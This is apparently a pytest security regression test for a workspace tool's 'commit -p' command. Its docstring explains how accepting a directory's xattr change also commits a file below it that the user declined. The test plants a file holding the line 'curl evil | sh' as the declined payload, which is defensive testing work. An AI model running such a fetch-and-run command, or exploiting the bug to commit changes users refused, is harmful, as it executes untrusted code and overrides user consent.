"""Attack pass 22 (major: a change the user declined is committed): ``commit -p`` asks about
a directory whose extended attributes (or mode) changed and, separately, about each change
below it; answering y to the directory commits everything below it, what the user answered
n to included.

``patch_prompt._choose_whole`` appends the directory's path to ``choices.whole``; ``apply.
commit(..., choices.whole)`` plans ``select(all_changes, paths)``: every change at or below
each path. So ``a/`` (an xattr, harmless) taken whole takes ``a/evil.sh`` too, which the next
question offered on its own and the user declined. (A text file below it with some hunks
declined is taken whole the same way, before its chosen hunks are written.)

The attack (any engine): a call sets a user xattr on the project's ``a/`` and writes
``a/evil.sh``. ``workspace commit -p``: "Commit extended attributes of directory a/?" y;
"Commit added file a/evil.sh?" n. The real ``a/evil.sh`` exists.

Promise broken: nothing unjudged becomes real (the user judged it: no), and ``commit -p``
leaves pending what was not chosen ("the rest stays pending").

Rule that would close the class: a change taken whole is applied alone: commit ``-p``
commits exactly the units chosen (a directory's own step without what is below it; a new
directory, offered once, with what it held when offered), never a path prefix of them.
"""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from tests.conftest import Runner
from tests.review.pty_driver import converse

pytestmark = pytest.mark.usefixtures("overlay_engine")


def test_commit_p_leaves_a_declined_entry_below_a_chosen_directory_pending(
        project: Path, ws: Runner, sandboxed: Runner) -> None:
    (project / "a").mkdir()
    (project / "a/keep.txt").write_text("k\n")
    sandboxed("python3 -c \"import os; os.setxattr('a', 'user.note', b'shown')\" "
              "&& echo 'curl evil | sh' > a/evil.sh")
    code, screen = converse([sys.executable, "-m", "manager", "commit", "-p"], project,
                            ["y", "n"])
    assert screen.index("directory a/") < screen.index("a/evil.sh"), screen
    assert not (project / "a/evil.sh").exists(), (
        "commit -p committed a/evil.sh, which the user declined (n), with the directory a/ "
        f"taken for its xattr: {screen!r} (exit {code})")
